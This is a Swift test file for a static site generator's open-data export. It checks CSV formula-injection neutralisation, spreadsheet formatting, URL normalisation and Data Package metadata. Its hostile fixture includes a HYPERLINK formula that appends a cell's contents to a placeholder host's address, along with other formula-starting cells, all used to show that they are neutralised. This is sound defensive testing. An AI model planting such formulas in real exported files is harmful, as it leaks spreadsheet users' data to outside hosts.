import Foundation
import Testing
import TinjauTestSupport

@testable import TinjauKit

/// Builds a site from a `tinjau.yml` and programme files of the OPD `dinas-a` (named by file
/// name) and returns every file's bytes by path, with the build's warnings.
func openDataSite(review: String = minimalReview, programs: [String: String], opd: String = opdIndex) throws
    -> (files: [String: [UInt8]], warnings: [Diagnostic])
{
    let dir = try TemporaryDirectory()
    let fs = LocalFileSystem()
    try fs.write(Array(review.utf8), to: dir.path + "/content/tinjau.yml")
    try fs.write(Array(opd.utf8), to: dir.path + "/content/opd/dinas-a/_index.md")
    for (name, text) in programs { try fs.write(Array(text.utf8), to: dir.path + "/content/opd/dinas-a/\(name).md") }
    let (files, report) = try SiteBuilder().prepare(
        BuildOptions(
            contentDirectory: dir.path + "/content", templatesDirectory: shippedTemplates,
            outputDirectory: dir.path + "/output"))
    return (Dictionary(uniqueKeysWithValues: files.map { ($0.path, $0.bytes) }), report.diagnostics)
}

/// The text of a file, which must exist.
func text(_ files: [String: [UInt8]], _ path: String) throws -> String {
    String(decoding: try #require(files[path], "\(path) missing"), as: UTF8.self)
}

/// A minimal RFC 4180 reader (quoted fields, doubled quotes, CRLF), independent of the writer,
/// so that tests read back what a tool would.
func readCSV(_ text: String, separator: Unicode.Scalar = ",") -> [[String]] {
    var rows: [[String]] = []
    var row: [String] = []
    var field = ""
    var quoted = false
    var scalars = text.unicodeScalars.makeIterator()
    var pending: Unicode.Scalar? = nil
    while let c = pending ?? scalars.next() {
        pending = nil
        if quoted {
            if c == "\"" {
                let next = scalars.next()
                if next == "\"" {
                    field.unicodeScalars.append("\"")
                } else {
                    quoted = false
                    pending = next
                }
            } else {
                field.unicodeScalars.append(c)
            }
        } else if c == "\"" {
            quoted = true
        } else if c == separator {
            row.append(field)
            field = ""
        } else if c == "\r" {
            let next = scalars.next()
            if next == "\n" {
                row.append(field)
                rows.append(row)
                row = []
                field = ""
            } else {
                field.unicodeScalars.append(c)
                pending = next
            }
        } else {
            field.unicodeScalars.append(c)
        }
    }
    if !field.isEmpty || !row.isEmpty {
        row.append(field)
        rows.append(row)
    }
    return rows
}

@Suite("Open data: spreadsheets, formulas, addresses, big numbers, the Data Package")
struct OpenDataTests {
    // MARK: Formula injection

    /// OWASP "CSV Injection": a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage
    /// return is prefixed with `'`; one that begins with `'` gets another (reversible); anything
    /// else is left alone.
    @Test(arguments: [
        ("=1+1", "'=1+1"), ("+62 274 367", "'+62 274 367"), ("-Waktu tanggap aduan", "'-Waktu tanggap aduan"), ("@APBD", "'@APBD"),
        ("\tTab", "'\tTab"), ("\rCR", "'\rCR"), ("\r\nCRLF", "'\r\nCRLF"), ("'kutip", "''kutip"),
        ("APBD", "APBD"), ("", ""), (" =1+1", " =1+1"), ("a=b", "a=b"), ("Café – Kopi", "Café – Kopi"), ("-", "'-"),
    ])
    func owaspRule(input: String, expected: String) {
        #expect(CSVWriter.neutralised(input) == expected)
        // Reversible: one leading `'` removed from a cell that begins with `'` gives the text back.
        let written = CSVWriter.neutralised(input)
        #expect((written.hasPrefix("'") ? String(written.dropFirst()) : written) == input)
    }

    static let hostileProgram = """
        ---
        judul: "=HYPERLINK(\\"http://contoh.invalid/?x=\\"&A1,\\"Lihat rincian\\")"
        dimensi: governance
        status: berjalan
        anggaran: 1000000
        realisasi_anggaran: 250000
        sumber_dana: "@APBD"
        indikator:
          - nama: -Waktu tanggap aduan
            satuan: jam
            baseline: -2.5
            target: 24
            realisasi: 30
            arah: turun
          - nama: "=1+1"
            satuan: "+persen"
            target: 80
            realisasi: 72.5
        ---
        Isi.

        """

    @Test func formulasInProgrammeAndIndicatorTextAreNeutralisedAndNumbersStayNumbers() throws {
        let (files, _) = try openDataSite(programs: ["uji": Self.hostileProgram])
        #expect(
            try text(files, "data/program.csv") == """
                id,opd,opd_nama,judul,dimensi,elemen,status,jangka,tahun_mulai,tahun_selesai,anggaran_rp,realisasi_anggaran_rp,serapan_persen,sumber_dana,mitra,alasan_tunda,ilustrasi,halaman\r
                dinas-a/uji,dinas-a,Dinas A,"'=HYPERLINK(""http://contoh.invalid/?x=""&A1,""Lihat rincian"")",governance,,berjalan,,,,1000000,250000,25,'@APBD,,,tidak,opd/dinas-a/uji/index.html\r

                """)
        #expect(
            try text(files, "data/indikator.csv") == """
                program,nomor,nama,satuan,baseline,target,realisasi,arah,bobot,capaian_persen,capaian_pecahan,capaian_persen_publikasi\r
                dinas-a/uji,1,'-Waktu tanggap aduan,jam,-2.5,24,30,turun,1,80,4/5,80\r
                dinas-a/uji,2,'=1+1,'+persen,,80,72.5,naik,1,90.625,29/32,90.6\r

                """)
        // The spreadsheet variant: the same cells, `;`, decimal commas, no fraction column.
        #expect(
            try text(files, "data/excel/indikator.csv") == """
                \u{FEFF}program;nomor;nama;satuan;baseline;target;realisasi;arah;bobot;capaian_persen;capaian_persen_publikasi\r
                dinas-a/uji;1;'-Waktu tanggap aduan;jam;-2,5;24;30;turun;1;80;80\r
                dinas-a/uji;2;'=1+1;'+persen;;80;72,5;naik;1;90,625;90,6\r

                """)
        // The budget table keys sources of funds by name: neutralised there too.
        #expect(try text(files, "data/anggaran.csv").contains("\r\nsumber_dana,'@APBD,'@APBD,1000000,250000,0,25,,\r\n"))
        // JSON is not a spreadsheet: the text stays as written.
        #expect(try text(files, "data/tinjauan.json").contains(#""sumber_dana" : "@APBD""#))
    }

    /// Every text cell of every CSV file of the hostile fixture is safe, and reading it back and
    /// removing the one added `'` gives the text the exporter had.
    @Test func noTextCellOfTheHostileFixtureStartsAFormula() throws {
        let options = BuildOptions(contentDirectory: fixtures + "/hostile/content", templatesDirectory: shippedTemplates, outputDirectory: "unused")
        let (files, report) = try SiteBuilder().prepare(options)
        let exporter = DataExporter(content: try #require(report.content), aggregates: try #require(report.aggregates))
        var checked = 0
        for table in exporter.tables() {
            for form in [CSVWriter.Form.standard, .spreadsheet] {
                let path = form == .standard ? table.path : table.spreadsheetPath
                var bytes = try #require(files.first { $0.path == path }).bytes
                if form == .spreadsheet {
                    #expect(Array(bytes.prefix(3)) == [0xEF, 0xBB, 0xBF], "\(path)")
                    bytes.removeFirst(3)
                }
                let columns = form == .standard ? table.columns : table.spreadsheetColumns
                let rows = readCSV(String(decoding: bytes, as: UTF8.self), separator: form == .standard ? "," : ";")
                #expect(rows.first == columns.map(\.name), "\(path)")
                #expect(rows.count == table.rows.count + 1, "\(path)")
                for (written, original) in zip(rows.dropFirst(), table.rows) {
                    #expect(written.count == columns.count, "\(path)")
                    for (index, column) in columns.enumerated() where column.kind == .text && index < written.count {
                        let cell = written[index]
                        let value = original[table.columns.firstIndex { $0.name == column.name }!]
                        if let first = cell.unicodeScalars.first { #expect(!"=+-@\t\r".unicodeScalars.contains(first), "\(path): \(cell)") }
                        #expect((cell.hasPrefix("'") ? String(cell.dropFirst()) : cell) == value, "\(path) \(column.name)")
                        checked += 1
                    }
                }
            }
        }
        #expect(checked > 100)
    }

    // MARK: Spreadsheets on Indonesian desktops

    @Test func standardFilesHaveNoByteOrderMarkAndSpreadsheetFilesHaveOne() throws {
        let program = """
            ---
            judul: Festival Kuliner Kreatif – Café & Kopi Lokal
            dimensi: economy
            status: selesai
            anggaran: 1250000000
            realisasi_anggaran: 1000000001
            indikator:
              - nama: Kunjungan
                target: 0.5
                realisasi: 0.25
            ---
            Isi.

            """
        let (files, _) = try openDataSite(programs: ["festival": program])
        let standard = try #require(files["data/program.csv"])
        let row =
            "dinas-a/festival,dinas-a,Dinas A,Festival Kuliner Kreatif – Café & Kopi Lokal,economy,,selesai,,,,1250000000,1000000001,80,,,,tidak,opd/dinas-a/festival/index.html\r\n"
        #expect(Array(standard.prefix(3)) == Array("id,".utf8))
        #expect(String(decoding: standard, as: UTF8.self).hasSuffix("\r\n" + row))
        // "–" is E2 80 93 and "é" C3 A9 in UTF-8.
        #expect(
            Array("Kreatif – Café".utf8) == [0x4B, 0x72, 0x65, 0x61, 0x74, 0x69, 0x66, 0x20, 0xE2, 0x80, 0x93, 0x20, 0x43, 0x61, 0x66, 0xC3, 0xA9])
        let spreadsheet = try #require(files["data/excel/program.csv"])
        #expect(Array(spreadsheet.prefix(6)) == [0xEF, 0xBB, 0xBF] + Array("id;".utf8))
        #expect(
            String(decoding: spreadsheet, as: UTF8.self).hasSuffix(
                "\r\ndinas-a/festival;dinas-a;Dinas A;Festival Kuliner Kreatif – Café & Kopi Lokal;economy;;selesai;;;;1250000000;1000000001;80;;;;tidak;opd/dinas-a/festival/index.html\r\n"
            ))
        #expect(try text(files, "data/excel/indikator.csv").hasSuffix("\r\ndinas-a/festival;1;Kunjungan;;;0,5;0,25;naik;1;50;50\r\n"))
        #expect(try text(files, "data/indikator.csv").hasSuffix("\r\ndinas-a/festival,1,Kunjungan,,,0.5,0.25,naik,1,50,1/2,50\r\n"))
    }

    @Test func theDataPageSaysWhichFileToOpenWhereAndAboutTheQuote() throws {
        let (files, _) = try openDataSite(programs: ["uji": programFile()])
        let page = try text(files, "data/index.html")
        #expect(page.contains(#"<td data-label="Berkas"><code>excel/*.csv</code></td>"#))
        #expect(
            page.contains(
                "<strong>Sel teks yang diawali <code>=</code>, <code>+</code>, <code>-</code>, <code>@</code>, tab atau carriage return diberi awalan <code>'</code></strong>"
            ))
        #expect(page.contains(#"<a class="inline" href="../data/excel/program.csv">excel/program.csv</a>"#))
        #expect(page.contains(#"<a href="../data/datapackage.json">datapackage.json</a>"#))
        #expect(page.contains("<h2 id=\"cara-memakai\">Cara memakai data ini</h2>"))
        #expect(page.contains(#"program = pd.read_csv("program.csv", keep_default_na=False, na_values=[""],"#))
        for label in ["Produsen data", "Walidata", "Periode", "Frekuensi pembaruan", "Lisensi", "Tanggal pembaruan"] {
            #expect(page.contains("<dt>\(label)</dt>"), "\(label)")
        }
    }

    // MARK: Addresses

    static let spacedReview = minimalReview + "\nbase_url: https://smartcity.bantulkab.go.id/Tinjauan Masterplan 2020/\n"

    @Test func aBaseURLWithSpacesIsPercentEncodedEverywhereAnAddressIsWritten() throws {
        let (files, _) = try openDataSite(review: Self.spacedReview, programs: ["uji": programFile()])
        let base = "https://smartcity.bantulkab.go.id/Tinjauan%20Masterplan%202020/"
        #expect(try text(files, "robots.txt") == "User-agent: *\nAllow: /\nSitemap: \(base)sitemap.xml\n")
        let sitemap = try text(files, "sitemap.xml")
        #expect(
            sitemap.hasPrefix(
                """
                <?xml version="1.0" encoding="UTF-8"?>
                <urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">
                  <url><loc>\(base)anggaran/</loc></url>
                  <url><loc>\(base)cetak/</loc></url>
                  <url><loc>\(base)data/</loc></url>

                """))
        #expect(sitemap.contains("  <url><loc>\(base)</loc></url>\n"))
        #expect(sitemap.contains("  <url><loc>\(base)opd/dinas-a/uji/</loc></url>\n"))
        #expect(!sitemap.contains(" Masterplan"))
        let home = try text(files, "index.html")
        #expect(home.contains("<meta property=\"og:url\" content=\"\(base)\">\n<link rel=\"canonical\" href=\"\(base)\">"))
        let program = try text(files, "opd/dinas-a/uji/index.html")
        #expect(program.contains("<link rel=\"canonical\" href=\"\(base)opd/dinas-a/uji/\">"))
        let notFound = try text(files, "404.html")
        #expect(notFound.contains("href=\"\(base)assets/style.css\""))
        let package = try text(files, "data/datapackage.json")
        #expect(package.contains("\"homepage\" : \"\(base)data/\""))
        for (path, bytes) in files where path.hasSuffix(".html") || path.hasSuffix(".xml") || path.hasSuffix(".txt") || path.hasSuffix(".json") {
            #expect(!String(decoding: bytes, as: UTF8.self).contains("Tinjauan Masterplan 2020/"), "\(path)")
        }
    }

    @Test(arguments: [
        ("https://smartcity.bantulkab.go.id/Tinjauan Masterplan 2020/", "https://smartcity.bantulkab.go.id/Tinjauan%20Masterplan%202020"),
        ("https://smartcity.bantulkab.go.id/Tinjauan Masterplan 2020", "https://smartcity.bantulkab.go.id/Tinjauan%20Masterplan%202020"),
        ("https://smartcity.bantulkab.go.id/Tinjauan%20Masterplan%202020/", "https://smartcity.bantulkab.go.id/Tinjauan%20Masterplan%202020"),
        ("https://contoh.go.id/Kafé Kopi/", "https://contoh.go.id/Kaf%C3%A9%20Kopi"),
        ("https://contoh.go.id/Kafe\u{301} Kopi/", "https://contoh.go.id/Kaf%C3%A9%20Kopi"),
        ("https://contoh.go.id/Tinjauan/Π/", "https://contoh.go.id/Tinjauan/%CE%A0"),
        ("HTTPS://SmartCity.Bantulkab.go.id", "https://smartcity.bantulkab.go.id"),
        ("http://127.0.0.1:8080/situs/", "http://127.0.0.1:8080/situs"),
        ("https://contoh.go.id/100%/", "https://contoh.go.id/100%25"),
        ("https://contoh.go.id/a\"b<c>/", "https://contoh.go.id/a%22b%3Cc%3E"),
    ])
    func baseURLsAreNormalised(input: String, expected: String) {
        #expect(SiteAddress.normalisedBase(input) == .success(expected))
    }

    @Test(arguments: [
        ("smartcity.bantulkab.go.id", SiteAddress.Problem.scheme), ("ftp://contoh.go.id/", .scheme), ("https:contoh.go.id", .scheme),
        ("https:///situs/", .host), ("https://contoh.go.id/?versi=2", .queryOrFragment), ("https://contoh.go.id/#data", .queryOrFragment),
        ("https://admin:rahasia@contoh.go.id/", .userInfo), ("https://bäntul.go.id/", .invalidHost("bäntul.go.id")),
        ("https://smart city.go.id/", .invalidHost("smart city.go.id")),
    ])
    func badBaseURLsAreRefused(input: String, problem: SiteAddress.Problem) {
        #expect(SiteAddress.normalisedBase(input) == .failure(problem))
    }

    @Test func aRefusedBaseURLIsAnErrorAtItsPlaceInTinjauYml() {
        let review = minimalReview + "\nbase_url: https://contoh.go.id/situs/?versi=2\n"
        let (_, diagnostics) = check(["tinjau.yml": review])
        let problem = diagnostics.first { $0.code == "review.base-url" }
        #expect(problem?.location == SourceLocation(path: "c/tinjau.yml", line: 7, column: 11))
        #expect(problem?.message == "`base_url` tidak boleh memuat `?` atau `#`")
        #expect(problem?.hint == "tulis alamat folder situs saja, tanpa `?…` dan `#…`; misalnya `base_url: https://smartcity.contoh.go.id/`")
    }

    @Test func percentEncodingIsIdempotentAndKeepsReservedCharacters() {
        let once = SiteAddress.percentEncoded("https://contoh.go.id/Kafé Kopi/a;b=c(d)/")
        #expect(once == "https://contoh.go.id/Kaf%C3%A9%20Kopi/a;b=c(d)/")
        #expect(SiteAddress.percentEncoded(once) == once)
        #expect(
            SiteAddress.absolute(base: "https://contoh.go.id/Tinjauan 2020", path: "opd/dinas-a/index.html")
                == "https://contoh.go.id/Tinjauan%202020/opd/dinas-a/")
    }

    // MARK: Big integers

    /// 2⁵³ − 1 is the largest integer every JSON reader keeps exactly.
    @Test func aRupiahSumPastTwoToTheFiftyThreeIsAWarningAtTheProgramme() throws {
        let under = programFile("anggaran: 9007199254740991\n")
        let (_, quiet) = try openDataSite(programs: ["a": under])
        #expect(!quiet.contains { $0.code == "money.json-precision" })
        let (files, warnings) = try openDataSite(programs: ["a": under, "b": programFile("anggaran: 1\n")])
        let warning = try #require(warnings.first { $0.code == "money.json-precision" })
        #expect(warning.severity == .warning)
        #expect(warning.location.path.hasSuffix("/content/opd/dinas-a/b.md"))
        #expect((warning.location.line, warning.location.column) == (5, 11))
        #expect(
            warning.message
                == "jumlah `anggaran` melewati 9.007.199.254.740.991 Rupiah (2⁵³ − 1) saat menambahkan program ini; pembaca JSON yang memakai bilangan titik-mengambang (JavaScript) membulatkan angka sebesar itu"
        )
        #expect(warnings.filter { $0.code == "money.json-precision" }.count == 1)
        // The JSON text and the CSV keep every digit.
        let json = try text(files, "data/tinjauan.json")
        #expect(json.contains("\"anggaran\" : 9007199254740992,"))
        #expect(try text(files, "data/anggaran.csv").contains("\r\nkeseluruhan,semua,Review Uji,9007199254740992,0,0,0,,\r\n"))
        // The schema says so.
        #expect(ReviewSchema.text.contains("Bilangan di atas 9007199254740991 (2^53 − 1) dibulatkan"))
    }

    // MARK: The Data Package

    /// `datapackage.json` describes every CSV file as it is: header = field names, byte count,
    /// keys that exist, foreign keys into resources that exist.
    @Test func theDataPackageDescribesEveryFileAsWritten() throws {
        let options = BuildOptions(contentDirectory: fixtures + "/hostile/content", templatesDirectory: shippedTemplates, outputDirectory: "unused")
        let files = Dictionary(uniqueKeysWithValues: try SiteBuilder().prepare(options).files.map { ($0.path, $0.bytes) })
        let packageBytes = try #require(files["data/datapackage.json"])
        let package = try #require(try JSONSerialization.jsonObject(with: Data(packageBytes)) as? [String: Any])
        let resources = try #require(package["resources"] as? [[String: Any]])
        let names = Set(resources.compactMap { $0["name"] as? String })
        let csvFiles = files.keys.filter { $0.hasPrefix("data/") && $0.hasSuffix(".csv") }.sorted()
        let described = resources.compactMap { $0["path"] as? String }.map { "data/" + $0 }
        #expect(Set(csvFiles).isSubset(of: Set(described)))
        #expect(csvFiles.count == 12)
        for resource in resources {
            let path = "data/" + (resource["path"] as! String)
            let bytes = try #require(files[path], "\(path)")
            #expect(resource["bytes"] as? Int == bytes.count, "\(path)")
            guard let schema = resource["schema"] as? [String: Any] else { continue }
            let fields = (schema["fields"] as! [[String: Any]]).map { $0["name"] as! String }
            let spreadsheet = path.hasPrefix("data/excel/")
            let header = readCSV(
                String(decoding: spreadsheet ? Array(bytes.dropFirst(3)) : bytes, as: UTF8.self),
                separator: spreadsheet ? ";" : ","
            ).first
            #expect(header == fields, "\(path)")
            for key in schema["primaryKey"] as! [String] { #expect(fields.contains(key), "\(path) \(key)") }
            for foreign in schema["foreignKeys"] as? [[String: Any]] ?? [] {
                let reference = foreign["reference"] as! [String: Any]
                #expect(names.contains(reference["resource"] as! String), "\(path)")
            }
        }
        let satuData = try #require(package["satu_data"] as? [String: Any])
        for key in ["produsen_data", "walidata", "periode", "frekuensi_pembaruan", "lisensi", "tanggal_pembaruan"] {
            #expect(satuData[key] is String, "\(key)")
        }
        let contributors = try #require(package["contributors"] as? [[String: String]])
        #expect(contributors.map { $0["role"] ?? "" } == ["author", "publisher"])
    }

    /// Quotes are doubled and decimal points made commas on bytes, around any text: multi-byte
    /// letters, several quotes, a quote at either end or before a combining mark, nothing to replace.
    @Test func quotesAndDecimalPointsAreReplacedAroundAnyText() {
        #expect(CSVWriter.field("Kafé \"Ngopi\" – \"", separator: ",") == "\"Kafé \"\"Ngopi\"\" – \"\"\"")
        #expect(CSVWriter.field("Kafé, Ngopi", separator: ",") == "\"Kafé, Ngopi\"")
        // A quote that a combining mark follows is doubled too (Foundation's search passed over it).
        #expect(CSVWriter.field("a\"\u{301}b", separator: ",") == "\"a\"\"\u{301}b\"")
        #expect(CSVWriter.field("Kafé Ngopi", separator: ",") == "Kafé Ngopi")
        #expect(CSVWriter.cell("-1234.5", .number, .spreadsheet) == "-1234,5")
        #expect(CSVWriter.cell("1234.5", .number, .standard) == "1234.5")
        #expect(CSVWriter.cell("12", .number, .spreadsheet) == "12")
        #expect(CSVWriter.replacing(UInt8(ascii: "."), with: Array("·".utf8), in: "a.é.") == "a·é·")
    }

    /// A CSV file is handed over part by part (``CSVWriter/write(_:_:to:)``): the parts, in order,
    /// are the file's bytes, and a large table never comes as one part.
    @Test(arguments: [CSVWriter.Form.standard, .spreadsheet])
    func csvFilesAreWrittenPartByPartAsTheWholeFile(form: CSVWriter.Form) {
        // Three parts' worth of rows and a few more, however many cores make a part.
        let rows = (0..<(3 * 8 * Parallel.threads * 512 + 17)).map { ["dinas-\($0 % 7)/program-\($0)", "=Judul; \"\($0)\"", "0.\($0 % 10)"] }
        let table = DataTable(
            name: "uji", title: "Uji", description: "Uji.",
            columns: [.text("id", "id"), .text("judul", "judul"), .number("nilai", "nilai")], primaryKey: ["id"], foreignKeys: [],
            rows: rows)
        var parts: [[UInt8]] = []
        CSVWriter.write(table, form) { parts.append($0) }
        #expect(parts.count == 5)  // the header, three full parts, the rest
        #expect(parts.map(\.count).max()! < parts.reduce(0) { $0 + $1.count } / 2)
        let whole = Array(parts.joined())
        let separator = form == .standard ? "," : ";"
        let expected =
            (form == .spreadsheet ? "\u{FEFF}" : "") + "id\(separator)judul\(separator)nilai\r\n"
            + rows.enumerated().map { index, row in
                let title = "\"'=Judul; \"\"\(index)\"\"\""
                let number = form == .standard ? row[2] : row[2].replacingOccurrences(of: ".", with: ",")
                return row[0] + separator + title + separator + number + "\r\n"
            }.joined()
        #expect(whole == Array(expected.utf8))
        #expect(CSVWriter.bytes(table, form) == whole)
    }

    /// A table made from a ``RowSource`` is written as the same table with its rows held, and its
    /// rows are only ever asked for a block of items at a time (an item may give several rows, or none).
    @Test func aTableFromARowSourceIsWrittenABlockAtATime() {
        final class Asked: @unchecked Sendable {
            let lock = NSLock()
            var largest = 0
            var items = 0
        }
        let asked = Asked()
        let count = 2 * 8 * Parallel.threads * 512 + 5
        // Item i gives i % 3 rows: indicators of programmes, some with none.
        @Sendable func rows(_ range: Range<Int>) -> [[String]] {
            range.flatMap { item in (0..<(item % 3)).map { ["dinas-a/program-\(item)", String($0 + 1), "-\(item)"] } }
        }
        let source = RowSource(count: count) { range in
            asked.lock.withLock {
                asked.largest = max(asked.largest, range.count)
                asked.items += range.count
            }
            return rows(range)
        }
        let columns: [DataColumn] = [.text("program", "program"), .integer("nomor", "nomor"), .text("catatan", "catatan")]
        let made = DataTable(name: "uji", title: "Uji", description: "Uji.", columns: columns, primaryKey: [], foreignKeys: [], source: source)
        let held = DataTable(
            name: "uji", title: "Uji", description: "Uji.", columns: columns, primaryKey: [], foreignKeys: [], rows: rows(0..<count))
        for form in [CSVWriter.Form.standard, .spreadsheet] {
            #expect(CSVWriter.bytes(made, form) == CSVWriter.bytes(held, form))
        }
        #expect(asked.largest == 512 && asked.items == 2 * count)
        // Read whole, the rows are the held ones; set, they replace the source.
        #expect(made.rows == held.rows)
        var emptied = made
        emptied.rows = []
        #expect(emptied.source == nil && CSVWriter.bytes(emptied, .standard) == Array("program,nomor,catatan\r\n".utf8))
    }

    @Test(arguments: [
        ("CC BY 4.0", "CC-BY-4.0"), ("cc-by-sa 4.0", "CC-BY-SA-4.0"), ("CC0", "CC0-1.0"), ("ODbL", "ODbL-1.0"),
        ("Lisensi Pemda \"Bantul\" 2020", "lisensi-pemda-bantul-2020"), ("ライセンス", "lainnya"),
    ])
    func licencesAreNamed(text: String, name: String) {
        #expect(DataPackage.license(text).name == name)
        #expect(DataPackage.license(text).title == text)
    }
}

/// `tinjauan.json` is written part by part (``DataExporter/reviewJSON()``) so that the whole
/// document is never held as one tree; the bytes must be those of encoding it whole.
@Suite struct ReviewJSONTests {
    @Test(arguments: ["mini", "hostile", "e2e", "galeri/besar", "galeri/satu-program", "galeri/tepi", "<shipped>"])
    func partByPartIsTheWholeDocument(_ fixture: String) throws {
        let content = fixture == "<shipped>" ? packageRoot + "/content" : fixtures + "/\(fixture)/content"
        let options = BuildOptions(contentDirectory: content, templatesDirectory: shippedTemplates, outputDirectory: "unused")
        let (_, report) = try SiteBuilder().prepare(options)
        let exporter = DataExporter(content: try #require(report.content), aggregates: try #require(report.aggregates))
        let whole = exporter.json(exporter.review())
        let parts = exporter.reviewJSON()
        let first = (0..<min(parts.count, whole.count)).first { parts[$0] != whole[$0] } ?? min(parts.count, whole.count)
        func around(_ bytes: [UInt8]) -> String { String(decoding: bytes[max(0, first - 80)..<min(bytes.count, first + 80)], as: UTF8.self) }
        #expect(parts.count == whole.count && first == whole.count, "first difference at byte \(first): \(around(parts)) ≠ \(around(whole))")
    }

    /// A review without programmes: the empty arrays are written as the encoder writes them.
    @Test func emptyArrays() throws {
        let (files, _) = try openDataSite(programs: [:])
        let document = try #require(files["data/tinjauan.json"])
        let object = try #require(try JSONSerialization.jsonObject(with: Data(document)) as? [String: Any])
        #expect((object["program"] as? [Any])?.isEmpty == true)
    }
}
